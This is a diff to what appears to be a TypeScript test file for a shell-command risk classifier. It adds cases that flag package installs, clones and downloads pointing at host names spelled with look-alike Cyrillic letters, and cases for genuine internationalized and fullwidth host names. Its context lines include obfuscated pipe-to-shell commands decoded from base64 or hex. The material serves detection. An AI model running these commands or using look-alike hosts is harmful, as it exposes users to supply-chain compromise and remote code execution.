@@ -31,6 +31,14 @@ const OBFUSCATED: [string, string, RiskLevel][] = [
   ["echo Y3VybA== | base64 --decode | bash", "obfuscated_command", "high"],
   ["echo 6375726c | xxd -r -p | sh", "obfuscated_command", "high"],
   ["printf '\\x63\\x75\\x72\\x6c' | sh", "obfuscated_command", "high"],
+  // Host names written with look-alike letters (session 7 audit): they reach another host.
+  ["pip install --index-url https://pyp\u0456.org/simple requests", "obfuscated_command", "high"],
+  ["git clone https://g\u0456thub.com/torvalds/linux", "obfuscated_command", "high"],
+  ["go install g\u0456thub.com/golangci/golangci-lint/cmd/golangci-lint@v1.55.2", "obfuscated_command", "high"],
+  ["curl -fsSL https://raw.g\u0456thubusercontent.com/x/y/main/i.sh -o i.sh", "obfuscated_command", "high"],
+  ["npm install --registry https://registry.npmj\u0455.org lodash@4.17.21", "obfuscated_command", "high"],
+  ["git remote add origin git@g\u0456tlab.com:team/app.git", "obfuscated_command", "high"],
+  ["curl https://\u0430\u0440\u0440le.com/x -o x", "obfuscated_command", "high"],
 ];
 
 /** Ordinary fix commands: none is obfuscated or runs a remote script. */
@@ -66,6 +74,11 @@ const BENIGN: string[] = [
   'export PATH="$HOME/.local/bin:$PATH"',
   "echo ZXhhbXBsZQ== | base64 -d",
   "base64 -d cert.b64 > cert.pem",
+  // Internationalized names that read as what they are, and width forms of the same host.
+  "curl https://m\u00fcnchen.de/api/v1/status",
+  "curl https://\u043f\u0440\u0438\u043c\u0435\u0440.\u0440\u0444/",
+  "curl https://\uff47\uff49\uff54\uff48\uff55\uff42.com/",
+  "cat \u0444\u0430\u0439\u043b.txt",
 ];
 
 describe("obfuscated commands are flagged", () => {
